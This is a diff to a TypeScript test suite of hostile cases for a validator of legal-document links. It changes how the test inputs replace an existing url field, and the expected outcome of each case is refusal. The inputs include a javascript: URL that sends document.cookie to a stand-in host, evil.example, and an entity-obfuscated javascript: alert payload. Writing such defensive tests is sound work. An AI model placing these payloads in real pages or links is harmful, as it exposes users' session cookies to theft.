@@ -103,13 +103,13 @@ export const CASES: HostileCase[] = [
   {
     name: 'a javascript: official link of a legal document',
     class: 'URL schemes',
-    files: { [LEGAL]: `${read(LEGAL)}url: "javascript:fetch('//evil.example/?c='+document.cookie)"\n` },
+    files: { [LEGAL]: edit(LEGAL, /^url: .*$/m, `url: "javascript:fetch('//evil.example/?c='+document.cookie)"`) },
     outcome: { refused: { file: LEGAL, field: 'url', message: SCHEME('javascript') } },
   },
   {
     name: 'a legal document link written with entity-like text (jav&#x61;script:)',
     class: 'URL schemes',
-    files: { [LEGAL]: `${read(LEGAL)}url: "jav&#x61;script:alert(1)"\n` },
+    files: { [LEGAL]: edit(LEGAL, /^url: .*$/m, 'url: "jav&#x61;script:alert(1)"') },
     outcome: { refused: { file: LEGAL, field: 'url', message: /không phải địa chỉ trang web đầy đủ/ } },
   },
   {
